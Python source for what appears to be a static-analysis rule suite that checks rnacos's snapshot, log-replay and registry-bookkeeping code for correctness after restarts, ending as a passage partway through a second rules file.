        if (cfg.callee_name(d['term']) or '').endswith('::ne'):
            pol = not pol
        if pol is True:
            marker_edges.append(dst)
    if not ck.require(len(marker_edges) >= 1, 'R01m', 'set_namespace:recognises-marker', b.where(), 'the reserved marker id is not recognised on the load path'):
        return
    ins = util.mut_calls_on_field(b, 'data', r'HashMap::<K, V, S, A>::insert$') + util.mut_calls_on_field(b, 'id_order_list', r'Vec::<T, A>::push$')
    ck.floor('R01m', 'namespace store sites in set_namespace', len(ins), 1)
    # blocks reachable only through the marker branch... the marker branch must not flow into a store site
    reach = cfg.reach_from(b, marker_edges)
    hit = [s0 for s0 in ins if s0.bb in reach]
    ck.require(not hit, 'R01m', 'set_namespace:marker-is-not-stored', hit[0].where() if hit else b.where(),
               'after recognising the marker id set_namespace goes on to store it as a namespace: the mark written by build_snapshot comes back as a '
               'listed namespace "__already_sync" after a restart')


def _closure_of(fb, start_names):
    cg = get_cg(fb)
    starts = set(start_names)
    return [fb.bodies[n] for n in sorted(cg.reachable(start_names, stop=lambda n: 'actix::Handler' in n and n not in starts)) if n in fb.bodies]


# live fields a snapshot decoder fills with a constant on purpose: (adt tail, field) -> reason
DECODE_CONST_OK = {
    ('Instance', 'from_cluster'): 'origin mark: a persistent instance loaded from the snapshot belongs to no peer node',
    ('Instance', 'from_grpc'): 'origin mark: a persistent instance loaded from the snapshot belongs to no gRPC connection',
}


def _derived_impl(b):
    return (b.trait or '') in ('std::fmt::Debug', 'std::clone::Clone', 'serde::Serialize', 'serde::Deserialize', 'std::cmp::PartialEq',
                               'std::default::Default', 'std::hash::Hash', 'std::cmp::Eq', 'std::cmp::PartialOrd', 'std::cmp::Ord') or \
        '_::<impl serde::' in b.name or 'as serde::' in b.name


def r01o(ck, fb):
    ck.rule('R01o', 'no field is lost between live state and snapshot record. Encode side: when a component\'s build_snapshot (or the to_do it calls) '
                    'fills a record field with a literal and the same component\'s load_snapshot_record reads that field, build_snapshot assigns the '
                    'field from live state before the record is written. Decode side: when the decoder fills a field of the live struct with a literal '
                    'and a request handler reads that field, the load path (load_snapshot_record / load_completed) computes it again. Otherwise a '
                    'restart from a snapshot serves something else than a restart that replays the same writes from the log')
    comps = [b for b in fb.bodies.values() if re.search(r'::load_snapshot_record$', b.name)]
    ck.floor('R01o', 'components with load_snapshot_record', len(comps), 5)
    n_enc = n_dec = 0
    for ld in sorted(comps, key=lambda b: b.name):
        owner = ld.name[:-len('load_snapshot_record')]
        comp = owner.split('::')[-2]
        bs = fb.bodies.get(owner + 'build_snapshot')
        lc = fb.bodies.get(owner + 'load_completed')
        load_cl = _closure_of(fb, [ld.name] + ([lc.name] if lc else []))
        build_cl = _closure_of(fb, [bs.name]) if bs else []
        load_names = set(x.name for x in load_cl)
        build_names = set(x.name for x in build_cl)
        # encode side
        for x in build_cl:
            for (i, j, st) in x.aggregates(r'^rnacos::'):
                rv = st['rv']
                fields = rv.get('fields') or []
                for k, op in enumerate(rv['ops']):
                    c = op_const(op)
                    if c is None or 'promoted' in c or k >= len(fields):
                        continue
                    adt, f = rv['adt'], fields[k]
                    if adt.endswith('SnapshotRecordDto'):
                        continue
                    readers = [y for y in load_cl if any(o == adt and ff == f for (o, ff, _, _) in y.field_reads())]
                    if not readers:
                        continue
                    n_enc += 1
                    ck.analysed(x)
                    setters = [y for y in build_cl if any(o == adt and ff == f for (o, ff, _, _) in y.field_writes())]
                    ck.require(bool(setters), 'R01o', 'encode:%s:%s.%s' % (comp, adt.split('::')[-1], f), x.where(i),
                               '%s writes %s.%s = %s into every snapshot record and %s reads it back: the live value is not in the snapshot, '
                               'a node restarted from it serves something else' % (x.name.split('rnacos::')[-1], adt.split('::')[-1], f,
                                                                                c.get('v'), readers[0].name.split('::')[-1]),
                               'assigned from live state in %s' % (setters[0].name.split('::')[-1] if setters else ''))
        # decode side
        others = None
        for x in load_cl:
            for (i, j, st) in x.aggregates(r'^rnacos::'):
                rv = st['rv']
                fields = rv.get('fields') or []
                for k, op in enumerate(rv['ops']):
                    c = op_const(op)
                    if c is None or 'promoted' in c or k >= len(fields):
                        continue
                    adt, f = rv['adt'], fields[k]
                    tail = adt.split('::')[-1]
                    if (tail, f) in DECODE_CONST_OK:
                        ck.info('R01o', 'decode: %s.%s = %s accepted: %s' % (tail, f, c.get('v'), DECODE_CONST_OK[(tail, f)]))
                        continue
                    if others is None:
                        others = [y for y in fb.bodies.values() if y.name not in load_names and y.name not in build_names
                                  and y.name.startswith('rnacos::') or y.name.startswith('<rnacos::')]
                    readers = [y for y in others if y.name not in load_names and y.name not in build_names and not _derived_impl(y)
                               and any(o == adt and ff == f for (o, ff, _, _) in y.field_reads())]
                    if not readers:
                        continue
                    n_dec += 1
                    ck.analysed(x)
                    setters = [y for y in load_cl if any(o == adt and ff == f for (o, ff, _, _) in y.field_writes())]
                    ck.require(bool(setters), 'R01o', 'decode:%s:%s.%s' % (comp, tail, f), x.where(i),
                               'the snapshot decoder sets %s.%s = %s, the field is read by %s, and nothing on the load path computes it again: '
                               'after a restart from a snapshot it differs from what the same writes left in memory' % (
                                   tail, f, c.get('v'), ', '.join(sorted(set(y.name.split('::')[-1] for y in readers))[:3])),
                               'computed again by %s' % (setters[0].name.split('::')[-1] if setters else ''))
    ck.floor('R01o', 'literal record fields read back + literal live fields read by handlers', n_enc + n_dec, 2)


def _field_refs(b, owner, f, mut):
    """blocks of `&self.f` (mut False) or `&mut self.f` (mut True) borrows of a field of the component"""
    out = []
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv.get('k') == 'ref' and bool(rv.get('mut')) == mut and isinstance(rv.get('pl'), dict):
            pr = [e for e in rv['pl'].get('p', []) if isinstance(e, dict) and 'f' in e]
            if pr and pr[-1]['f'] == f and pr[-1].get('o') == owner:
                out.append(i)
    return out


def r01n(ck, fb):
    ck.rule('R01n', 'a derived index is current whenever a replayed request reads it: start-up loads the snapshot records, replays the log, and only '
                    'then sends LoadCompleted. For every collection field of a component that load_completed (re)builds, each read of it by a '
                    'function the replayed requests run is either preceded, on every path in that function, by a call of the rebuilding function, '
                    'or the field is kept up to date by load_snapshot_record itself. Otherwise a request in the log tail is decided on an empty '
                    'index at restart and differently from how the running node decided it')
    cg = get_cg(fb)
    n = 0
    comps = 0
    for lc in sorted([b for b in fb.bodies.values() if re.search(r'::load_completed$', b.name)], key=lambda b: b.name):
        owner_fn = lc.name[:-len('load_completed')]
        comp_ty = owner_fn[:-2]
        comp = comp_ty.split('::')[-1]
        ld = fb.bodies.get(owner_fn + 'load_snapshot_record')
        if ld is None:
            continue
        comps += 1
        lc_cl = _closure_of(fb, [lc.name])
        derived = {}
        for x in lc_cl:
            for (o, f, bb, st) in x.field_writes():
                if o == comp_ty:
                    fty = ''
                    try:
                        fty = dict((a, b_) for (a, b_) in [(q[0], q[1]) for q in fb.adt(comp_ty)['variants'][0]['fields']]).get(f, '')
                    except Exception:
                        pass
                    if re.search(r'HashMap|BTreeMap|HashSet|BTreeSet|Vec<', fty):
                        derived.setdefault(f, set()).add(x.name)
        if not derived:
            ck.info('R01n', '%s: load_completed rebuilds no collection field' % comp)
            continue
        ld_cl = _closure_of(fb, [ld.name])
        # the handlers the replay path sends to on this component
        handlers = [h for h in fb.bodies.values() if h.trait == 'actix::Handler' and h.self_ty == comp_ty and h.name.endswith('::handle')
                    and h.trait_args and not h.trait_args[0].endswith('RaftApplyDataRequest')]
        replay = set(cg.reachable([RD + 'load_log'], stop=lambda m: 'actix::Handler' in m and not m.startswith('<' + comp_ty)))
        handlers = [h for h in handlers if h.name in replay]
        if not ck.require(len(handlers) >= 1, 'R01n', 'anchor:%s:replayed-handler' % comp, lc.where(), 'no handler of %s is reached from load_log' % comp):
            continue
        run_cl = _closure_of(fb, [h.name for h in handlers])
        for f, rebuilders in sorted(derived.items()):
            kept = [x for x in ld_cl if _field_refs(x, comp_ty, f, True) or any(o == comp_ty and ff == f for (o, ff, _, _) in x.field_writes())]
            for x in run_cl:
                if x.name in rebuilders:
                    continue
                for bb in _field_refs(x, comp_ty, f, False):
                    n += 1
                    ck.analysed(x)
                    dom = False
                    for rb in rebuilders:
                        for s0 in x.calls(re.escape(rb) + '$'):
                            if s0.bb != bb and cfg.dominates_blocks(x, [s0.bb], bb):
                                dom = True
                    ck.require(dom or bool(kept), 'R01n', '%s:%s:read-in:%s' % (comp, f, x.name.split('::')[-1]), x.where(bb),
                               '%s reads %s.%s, which is empty while the log is replayed on top of a snapshot (only load_completed builds it, '
                               'after the replay) and is not rebuilt before the read: the replayed request is decided differently from how the '
                               'running node decided it' % (x.name.split('::')[-1], comp, f),
                               'rebuilt before the read' if dom else 'kept by %s' % (kept[0].name.split('::')[-1] if kept else ''))
    ck.floor('R01n', 'reads of a rebuilt index by replayed requests', n, 2)


SNAPSHOT_FILTERS_CONFIG = [
    (r'ConfigActor::applied_value\) is Some', 'a key that only exists as a temporary value (routed publish, log entry not applied here yet) is not state-machine state (R01t decides when the helper answers None)')]
SNAPSHOT_FILTERS = {   # builder -> conditions an entry may have to meet to be written (anything else is a dropped entry), with the reason
    'rnacos::namespace::NamespaceActor::build_snapshot': [
        (r'is_empty\(\)', 'the default namespace (empty id) is implicit'),
        (r'BitAnd', 'only user-created namespaces are stored, weak ones are rebuilt from their references (R01l)'),
        (r'already_sync_from_config', 'the marker record is written once the old data was migrated (R01m)')],
    'rnacos::config::core::ConfigActor::build_snapshot': SNAPSHOT_FILTERS_CONFIG,
    'rnacos::cache::core::DirectCacheManager::build_snapshot': [
        (r'expire', 'an entry whose expire second has passed is dead for every reader (get_valid_value refuses it)')],
    'rnacos::naming::core::NamingActor::build_snapshot': [
        (r'^!?ephemeral$|\.ephemeral$', 'only persistent instances belong to the raft state')],
}


def r01s(ck, fb, R='R01s'):
    ck.rule(R, 'the snapshot is complete: in every component\'s build_snapshot the per-entry record is written for EVERY entry the iteration yields; '
               'the only conditions between the iterator and the record are the iteration itself, a map lookup, error propagation (?) and the '
               'listed per-component filters (namespace: non-default, user-created; naming: persistent). An entry that is left out because of a '
               'transient mark (a config whose routed value has not been applied yet, ...) is missing - with its history - on every node that '
               'later restarts from or installs that snapshot')
    n = 0
    for b in fb.bodies.values():
        if not b.name.endswith('::build_snapshot') or b.parent or '::tests::' in b.name:
            continue
        aggs = b.aggregates(r'filestore::model::SnapshotRecordDto$')
        if not aggs:
            continue
        ck.analysed(b)
        allowed = SNAPSHOT_FILTERS.get(b.name, [])
        for (i, j, st) in aggs:
            atoms = cfg.guard_atoms(b, i)
            in_loop = any(a[0] == 'variant' and a[2] == 'Some' and 'Iterator>::next' in cfg.fmt_desc(a[3]) for a in atoms)
            if not in_loop:
                continue
            n += 1
            extra = []
            for a in atoms:
                txt = cfg.fmt_atom(a)
                if a[0] in ('variant', 'notvariant', 'variantin') and re.search(r'Iterator>::next|Try>::branch|HashMap::<K, V, S, A>::get|BTreeMap::<K, V, A>::get', txt):
                    continue
                if any(re.search(rx, txt) for rx, _why in allowed):
                    continue
                extra.append(txt)
            if not extra and not allowed and util.loop_can_skip(b, i)[1]:
                extra = ['a condition inside the loop (an iteration can pass without writing its entry)']
            ck.require(not extra, R, '%s:every-entry-written' % b.name.split('::')[-2], b.where(i),
                       '%s writes an entry to the snapshot only if %s: entries for which that does not hold are not in the snapshot, so a node that '
                       'restarts from it or is caught up with it serves less (keys, history, type, description) than before' % (b.name, extra),
                       'unconditional%s' % (' apart from: ' + '; '.join(w for _r, w in allowed) if allowed else ''))
    ck.floor(R, 'per-entry snapshot records', n, 8)


def r01t(ck, fb, R='R01t'):
    ck.rule(R, 'the snapshot holds applied state only: a config entry that is marked tmp (the content a follower took over from a routed publish '
               'before the log entry was applied) is not written with that content - the record is built from the newest history item, and the entry '
               'is left out only when it has no history at all. Written as it is, the value comes back with tmp == false, the replay of the '
               'publish finds "same md5" and returns early: the publish has no history entry on a node that restarted from that snapshot')
    CAB = 'rnacos::config::core::ConfigActor::build_snapshot'
    b = ck.body(CAB, R)
    if not b:
        return
    reg = util.region(fb, b)
    tmp_tests = []
    for x in reg:
        for (s0, d0, lab0, t0) in cfg.switch_edges(x):
            d = cfg.strip_calls(x, cfg.describe_operand(x, t0['discr']))
            while d['k'] == 'un' and d.get('op') == 'Not':
                d = cfg.strip_calls(x, cfg.describe_operand(x, d['a']))
            if d['k'] == 'place' and d['fields'][-1:] == ['tmp']:
                tmp_tests.append((x, s0))
    ck.require(bool(tmp_tests), R, 'build_snapshot:looks-at-tmp', b.where(),
               'ConfigActor::build_snapshot writes every cache entry as it is, also one whose content is only a temporary value: after a restart from '
               'that snapshot the replayed publish is a no-op (same md5, tmp lost) and its history entry is missing')
    if not tmp_tests:
        return
    # on the tmp path the content comes from the history
    ok = False
    for x in reg:
        th = Taint(x, place_src=field_place_src('histories'))
        for (o, f, bb, st) in x.field_writes():
            if f == 'content' and o.endswith('config::core::ConfigValue') and any(th.op_tainted(y) for y in rv_operands(st['rv'])):
                if any(a[0] == 'field' and a[1][-1:] == ['tmp'] for a in cfg.guard_atoms(x, bb)):
                    ok = True
    ck.require(ok, R, 'build_snapshot:tmp->last-applied-content', b.where(),
               'on the tmp path the record is not rebuilt from the newest history item (the last applied content)')
    # an entry is left out only when it is tmp and has no history
    for x in reg:
        if x is b or not x.local_ty(0).startswith('std::option::Option<'):
            continue
        nones = [i for (i, j, st) in x.aggregates(r'^std::option::Option$', 'None') if st['d'] == 0]
        nones += [s1.bb for s1 in x.sites if (s1.callee or '').endswith('FromResidual::from_residual') and s1.dst == 0]
        for i in nones:
            atoms = cfg.guard_atoms(x, i)
            t_ok = any(a[0] == 'field' and a[1][-1:] == ['tmp'] and a[2] is True for a in atoms)
            def on_hist(a):
                # the tested Option is (the `?` of) histories.last()
                d = a[3]
                for _ in range(4):
                    if d.get('k') == 'call' and (cfg.callee_name(d['term']) or '').endswith('Try>::branch') and d['term']['args']:
                        d = cfg.describe_operand(x, d['term']['args'][0])
                    else:
                        break
                return bool(re.search(r'::last|::last_mut|::first', cfg.fmt_desc(d))) and 'histories' in str(cfg.origin_fields(x, d['term']['args'][0]) if d.get('k') == 'call' and d['term']['args'] else '')
            h_ok = any(a[0] in ('variant',) and a[2] in ('None', 'Break') and on_hist(a) for a in atoms) or \
                any(a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is True for a in atoms)
            ck.require(t_ok and h_ok, R, 'build_snapshot:left-out-only-if-never-applied', x.where(i),
                       'an entry can be left out of the snapshot although it has applied history (%s)' % [cfg.fmt_atom(a) for a in atoms])


def r01w(ck, fb, R='R01w'):
    ck.rule(R, 'a deadline survives a snapshot as the instant it names: DirectCacheManager::build_snapshot stores the entry\'s absolute expire second '
               '(`timeout` of the record is a plain copy of `expire`) and load_snapshot_record hands that value to do_set unchanged - no clock is '
               'read on either side. A remaining-time encoding re-based on the loader\'s clock gives every entry its remaining life back whenever an '
               'old snapshot is loaded: a console session or API token that expired long ago is accepted again after a restart or an install')
    DC = 'rnacos::cache::core::DirectCacheManager::'
    b = ck.body(DC + 'build_snapshot', R)
    if b:
        ws = [(x, bb, st) for x in util.region(fb, b) for (o, f, bb, st) in x.field_writes() if f == 'timeout' and o.endswith('DirectCacheItemDo')]
        ck.floor(R, 'assignments of the record\'s timeout in build_snapshot', len(ws), 1)
        for (x, bb, st) in ws:
            rv = st['rv']
            d = cfg.strip_calls(x, cfg.describe_operand(x, rv['op'])) if rv['k'] in ('use', 'cast') else {'k': rv['k']}
            ck.require(d['k'] == 'place' and d['fields'][-1:] == ['expire'], R, 'build_snapshot:timeout=expire', x.where(bb),
                       'the record\'s timeout is not the entry\'s absolute expire second (it is computed: %s)' % d['k'], 'plain copy of expire')
    l = ck.body(DC + 'load_snapshot_record', R)
    if l:
        ds = l.calls(re.escape(DC + 'do_set') + '$')
        ck.floor(R, 'do_set in load_snapshot_record', len(ds), 1)
        for s0 in ds:
            d = cfg.strip_calls(l, cfg.describe_operand(l, s0.args[3])) if len(s0.args) > 3 else {'k': '?'}
            ck.require(d['k'] == 'place' and d['fields'][-1:] == ['timeout'], R, 'load_snapshot_record:expire=timeout', s0.where(),
                       'the loaded entry\'s expire second is not the stored value (it is computed: %s)' % d['k'], 'plain copy of timeout')
        clock = [s0 for x in util.region(fb, l) for s0 in x.calls(r'now_second|now_millis|SystemTime::now|Local::now')]
        ck.require(not clock, R, 'load_snapshot_record:no-clock', clock[0].where() if clock else l.where(),
                   'load_snapshot_record reads the clock: what a loaded entry means depends on when the snapshot is loaded')


def r01y(ck, fb, R='R01y'):
    ck.rule(R, '"serves again, unchanged": the namespace list is served in the order of NamespaceActor.id_order_list (creation order), and '
               'load_snapshot_record rebuilds that list from the order of the snapshot records. The snapshot builder therefore writes the namespace '
               'records in the order of the field the served list iterates - not in the order of the HashMap that holds the values, which differs '
               'from process to process')
    NS = 'rnacos::namespace::NamespaceActor::'
    bs = ck.body(NS + 'build_snapshot', R)
    ql = ck.body(NS + 'query_list', R)
    if not (bs and ql):
        return

    def iterated_fields(b):
        out = []
        for x in util.region(fb, b, 1):
            for s0 in x.calls(r'IntoIterator>::into_iter$|::iter$|::values$|::keys$'):
                f = util.recv_fields(x, s0)
                if f:
                    out.append((f[-1], s0))
        return out
    served = [f for (f, s0) in iterated_fields(ql)]
    ck.require(len(set(served)) == 1, R, 'query_list:one-order', ql.where(), 'the served list iterates %s: anchor lost' % sorted(set(served)))
    if len(set(served)) != 1:
        return
    order = served[0]
    # the loop of build_snapshot that sends the per-namespace records
    sends = [s0 for (s0, m0, v0, a0) in util.sends(bs, r'SnapshotWriterRequest$', 'Record')]
    ck.floor(R, 'record writes in the namespace snapshot builder', len(sends), 1)
    its = iterated_fields(bs)
    heads = [(f, s0) for (f, s0) in its if any(s1.bb in cfg.reach_from(bs, [s0.bb]) for s1 in sends)]
    outer = [f for (f, s0) in heads if not any(cfg.dominates_blocks(bs, {s2.bb}, s0.bb) for (f2, s2) in heads if s2 is not s0)]
    ck.require(bool(outer) and all(f == order for f in outer), R, 'build_snapshot:records-in-served-order', bs.where(),
               'the namespace snapshot is written by iterating %s while the list is served (and rebuilt on load) in the order of %s: after a restart from '
               'a snapshot the namespace list comes back in another order' % (sorted(set(outer)), order), 'iterates %s' % order)


def r01z(ck, fb, R='R01z'):
    ck.rule(R, '"no matter how the preceding writes and log compactions were interleaved": a snapshot holds exactly the entries up to the last_index of '
               'its header - the replay after a restart starts at last_index + 1. StateApplyManager fixes last_index when BuildSnapshot is handled and '
               'then asks the seven components for their records one after the other; entries applied meanwhile (async-raft spawns the compaction and '
               'keeps applying) reach the components before they are asked, are inside the snapshot, and are applied a second time by the replay '
               '(a sequence advanced twice, a counter incremented twice, a config history with the same publishes twice). The part of the build that '
               'asks the components (RaftDataHandler::build_snapshot) runs in a future the actor waits for (ctx.wait), as the start-up load and the '
               'snapshot installation do - or the handler of BuildSnapshot is not a future at all')
    H = '<rnacos::raft::filestore::raftapply::StateApplyManager as actix::Handler<rnacos::raft::filestore::raftapply::StateApplyAsyncRequest>>::handle'
    h = ck.body(H, R)
    if not h:
        return
    reg = util.region(fb, h, 3)
    holders = [x for x in reg if x.calls(r'RaftDataHandler::build_snapshot$')]
    ck.floor(R, 'bodies on the BuildSnapshot path that ask the components for records', len(holders), 1)
    if not holders:
        return
    # the closure / async block of the handler from which the fan-out is reached, and how that future is registered
    def root_closure(x):
        while x.parent and x.parent != h.name and fb.bodies.get(x.parent) is not None and fb.bodies[x.parent].name != h.name:
            x = fb.bodies[x.parent]
        return x
    ok = False
    for x in holders:
        # walk up: the async block inside `handle` that (transitively) awaits the fan-out
        blocks = [c for c in fb.tree(H)[1:] if c is x or any(y is x for y in util.region(fb, c, 3))]
        for c in blocks:
            # where is this closure created in handle, and does the value flow into a wait registration?
            for (i, j, st, cdef) in h.closures_created():
                if cdef != c.name:
                    continue
                d = st.get('d')
                t = Taint(h, local_src=[d] if isinstance(d, int) else [])
                for s0 in h.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$'):
                    if any(t.op_tainted(a) for a in s0.args):
                        ok = True
    ck.require(ok, R, 'BuildSnapshot:serialised-with-apply', h.where(),
               'the future that asks the components for their snapshot records is returned as an ordinary actor future (polled between other messages): '
               'ApplyRequest / ApplyBatchRequest for entries after the snapshot\'s last_index are handled meanwhile and change the components before '
               'they are asked - the snapshot contains entries its header does not cover and the restart replays them again (leader: NextId answers 5 '
               'on the running node and 6 after the restart; follower batch: counter 2 -> 3, history [a=1,a=2,a=1] -> [a=1,a=2,a=1,a=2,a=1])',
               'registered with ctx.wait')


def r01aa(ck, fb, R='R01aa'):
    ck.rule(R, '"nothing that was acknowledged is missing" after a restart: the start-up replay covers every entry from the first index the snapshot '
               'does not hold (snapshot_next_index) up to AND INCLUDING last_applied_log. StateApplyManager::load_log returns without asking the log '
               'files only when nothing was ever applied, a manager is missing, or a comparison says last_applied_log < snapshot_next_index; a test '
               'that also holds for equality (<=) skips the replay of exactly one entry - the publish acknowledged right after a compaction - and raft, '
               'which is told that entry is applied, never applies it again')
    b = ck.body('rnacos::raft::filestore::raftapply::StateApplyManager::load_log', R)
    if not b:
        return
    loads = [s0 for x in util.region(fb, b, 1) for (s0, m0, v0, a0) in util.sends(x, r'RaftLogManagerAsyncRequest$', 'Load')]
    # the send sits in the async block; in load_log itself the block that creates that closure is the point of no return
    made = [i for (i, j, st, cdef) in b.closures_created() if any(s0.body.name == cdef or (s0.body.parent or '') == cdef for s0 in loads)]
    ck.floor(R, 'replay requests to the log manager', len(loads), 1)
    if not made:
        ck.bad(R, 'load_log:anchor', b.where(), 'the replay request is not sent from a future created in load_log: the rule does not know this shape')
        return
    bad = []
    n = 0
    for (s0, d0, lab0, t0) in cfg.switch_edges(b):
        d = cfg.describe_operand(b, t0['discr'])
        neg = False
        while d['k'] == 'un' and d['op'] == 'Not':
            neg = not neg
            d = cfg.describe_operand(b, d['a'])
        if d['k'] != 'bin' or d['op'] not in ('Lt', 'Le', 'Gt', 'Ge', 'Eq', 'Ne'):
            continue
        fa, fb_ = cfg.origin_fields(b, d['a'])[-1:], cfg.origin_fields(b, d['b'])[-1:]
        if sorted(fa + fb_) != ['last_applied_log', 'snapshot_next_index']:
            continue
        n += 1
        pol = cfg.edge_polarity(t0, lab0)
        if pol is None:
            continue
        if neg:
            pol = not pol
        # relation of (last_applied_log - snapshot_next_index) that holds on this edge: subset of {'<', '=', '>'}
        op = d['op']
        if fa == ['snapshot_next_index']:
            op = {'Lt': 'Gt', 'Le': 'Ge', 'Gt': 'Lt', 'Ge': 'Le'}.get(op, op)
        holds = {'Lt': {'<'}, 'Le': {'<', '='}, 'Gt': {'>'}, 'Ge': {'>', '='}, 'Eq': {'='}, 'Ne': {'<', '>'}}[op]
        if not pol:
            holds = {'<', '=', '>'} - holds
        # does this edge lead around the replay?
        r = cfg.reach_from(b, [d0], blocked_blocks=set(made))
        skips = any(x in r for x in b.return_blocks()) and not any(m in cfg.reach_from(b, [d0]) for m in made)
        if skips and (holds & {'=', '>'}):
            bad.append((s0, holds))
    ck.require(not bad, R, 'load_log:replay-range-inclusive', b.where(bad[0][0]) if bad else b.where(),
               'load_log skips the replay on an edge on which last_applied_log %s snapshot_next_index can hold: the entry at snapshot_next_index '
               '(acknowledged, applied, not in the snapshot) is not restored after a restart and never applied again' % (sorted(bad[0][1]) if bad else ''),
               '%d comparisons of the two indexes, none skips an entry' % n)


def r01ac(ck, fb, R='R01ac'):
    ck.rule(R, 'the namespace list comes back in the order it was served: records are loaded in the order they were written, and loading a config '
               'appends its tenant to the namespace list (as a weak namespace) when it is not there yet - so in RaftDataHandler::build_snapshot the '
               'namespace actor is asked for its records before the config actor (each awaited). With the configs first, a node filled from a '
               'snapshot lists the namespaces in the order of the config cache: leader [ns-a, ns-b], late joiner and restarted node [ns-b, ns-a]')
    b = ck.main('rnacos::raft::filestore::raftdata::RaftDataHandler::build_snapshot', R)
    if not b:
        return
    ns = [s0 for (s0, m0, v0, a0) in util.sends(b, None, 'BuildSnapshot') if s0.gargs and s0.gargs[0].endswith('NamespaceActor')]
    cf = [s0 for (s0, m0, v0, a0) in util.sends(b, None, 'BuildSnapshot') if s0.gargs and s0.gargs[0].endswith('ConfigActor')]
    if not ck.require(len(ns) >= 1 and len(cf) >= 1, R, 'build_snapshot:anchors', b.where(), 'the namespace / config BuildSnapshot sends were not found'):
        return
    ok = all(cfg.dominates_blocks(b, {x.bb for x in ns}, c.bb) for c in cf) and all(util.awaited(b, x) for x in ns)
    ck.require(ok, R, 'build_snapshot:namespaces-before-configs', cf[0].where(),
               'the config actor writes its snapshot records before the namespace actor has written (and been awaited for) its own: a node that loads the '
               'snapshot creates the namespaces of the configs first, as weak namespaces, and serves the namespace list in another order than the node that built it',
               'namespace records first')
