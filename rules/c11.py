"""C11 Registry bookkeeping: counters, indexes, reverse maps always match instances."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands, op_const

SV = 'rnacos::naming::service::Service::'
NA = 'rnacos::naming::core::NamingActor::'


def cond_on(b, bb, pred):
    """a dominating switch edge whose discriminant description satisfies pred(desc, polarity)"""
    for (src, dst, lab, term) in cfg.dominating_edges(b, bb):
        d = cfg.describe_operand(b, term['discr'])
        neg = False
        while d['k'] == 'un' and d['op'] == 'Not':
            neg = not neg
            d = cfg.describe_operand(b, d['a'])
        pol = cfg.edge_polarity(term, lab)
        if isinstance(pol, bool) and neg:
            pol = not pol
        if pred(cfg.strip_calls(b, d) if d['k'] == 'call' else d, pol):
            return True
    return False


def field_cond(field, want):
    return lambda d, pol: d['k'] == 'place' and d['fields'][-1:] == [field] and pol is want


def counter_writes(b, field):
    out = []
    for (o, f, bb, st) in b.field_writes():
        if f == field and o.endswith('service::Service'):
            # find the arithmetic: the assigned tuple field comes from Add/SubWithOverflow of the same field by const 1
            out.append((bb, st))
    return out


def delta_of(b, bb, st, field):
    """+1 / -1 / None for `self.field = move _t.0` where _t = (Add|Sub)WithOverflow(self.field, 1)"""
    op = st['rv'].get('op') if st['rv']['k'] == 'use' else None
    if not op:
        return None
    from rn.facts import op_place, pl_local
    p = op_place(op)
    if p is None:
        return None
    l = pl_local(p)
    for kind, i, j, node in b.defs.get(l, []):
        if kind == 'stmt' and node['rv']['k'] == 'bin' and node['rv']['op'] in ('AddWithOverflow', 'SubWithOverflow', 'Add', 'Sub'):
            c = op_const(node['rv']['b'])
            if c is not None and str(c.get('v')) == '1':
                return 1 if node['rv']['op'].startswith('Add') else -1
    return None


def run(ck, fb):
    _run0(ck, fb)
    r11f(ck, fb)
    r11g(ck, fb)
    r11h(ck, fb)
    r11i(ck, fb)
    r11j(ck, fb)


def _run0(ck, fb):
    ck.explanation = (
        'Decides co-update clauses that the counter/index/reverse-map invariants need on every path: (a) service_map insert/remove is '
        'paired with namespace_index insert_service/remove_service; (b) a service is dropped only under instance_size <= 0; (c) the '
        'client->instances reverse map is updated when an instance is registered with an owner, replaced by another owner, or removed; '
        '(d) in impl Service every removal from `instances` that yields an instance decrements instance_size, decrements '
        'healthy_instance_size exactly under old.healthy and clears perpetual_host_set under !old.ephemeral; the new-instance path '
        'increments instance_size (+healthy under instance.healthy); health flips adjust healthy_instance_size with the matching sign '
        'under the matching (old,new) condition; perpetual_host_set insert/remove follow the ephemeral transition.')
    ck.undecided = ('Does not decide equality of counters and map sizes for arbitrary histories (a relational numeric invariant over map '
                    'cardinalities; no sound numeric domain in reach).')
    r11a(ck, fb)
    r11b(ck, fb)
    r11c(ck, fb)
    r11d(ck, fb)
    r11e(ck, fb)


def r11a(ck, fb):
    ck.rule('R11a', 'NamingActor: every service_map.insert is paired with namespace_index.insert_service and every service_map.remove with '
                    'namespace_index.remove_service in the same function')
    n = 0
    for b in fb.find('^' + re.escape(NA)):
        if b.parent:
            continue
        ins = util.mut_calls_on_field(b, 'service_map', r'HashMap::<K, V, S, A>::insert$')
        rem = util.mut_calls_on_field(b, 'service_map', r'HashMap::<K, V, S, A>::remove$')
        if not ins and not rem:
            continue
        ck.analysed(b)
        n += 1
        ii = util.mut_calls_on_field(b, 'namespace_index', r'NamespaceIndex::insert_service$', deep=1)
        ri = util.mut_calls_on_field(b, 'namespace_index', r'NamespaceIndex::remove_service$', deep=1)
        for s in ins:
            ok = any(cfg.dominates_blocks(b, {x.bb}, s.bb) or cfg.must_pass_before_return(b, s.bb, {x.bb}) for x in ii)
            ck.require(ok, 'R11a', '%s:insert<->insert_service' % b.name, s.where(), 'a service is created without being listed in the namespace/group index')
        for s in rem:
            ok = any(cfg.dominates_blocks(b, {x.bb}, s.bb) or cfg.must_pass_before_return(b, s.bb, {x.bb}) for x in ri)
            ck.require(ok, 'R11a', '%s:remove<->remove_service' % b.name, s.where(), 'a service is dropped but stays listed in the namespace/group index')
    ck.floor('R11a', 'functions mutating service_map', n, 2)


def r11b(ck, fb):
    ck.rule('R11b', 'empty-service clean-up: every service_map.remove is guarded by instance_size <= 0 of that service; '
                    'remove_empty_service refuses (Err) when instance_size > 0')
    for b in fb.find('^' + re.escape(NA)):
        if b.parent:
            continue
        for s in util.mut_calls_on_field(b, 'service_map', r'HashMap::<K, V, S, A>::remove$'):
            ok = False
            for a in cfg.guard_atoms(b, s.bb):
                if a[0] == 'cmp' and a[1] in ('Le', 'Lt', 'Eq', 'Gt', 'Ge'):
                    da = cfg.strip_calls(b, a[2])
                    if da['k'] == 'place' and da['fields'][-1:] == ['instance_size'] and a[3]['k'] == 'const':
                        k = int(a[3]['c'].get('v', 99))
                        if (a[1] == 'Le' and a[4] is True and k <= 0) or (a[1] == 'Lt' and a[4] is True and k <= 1) or \
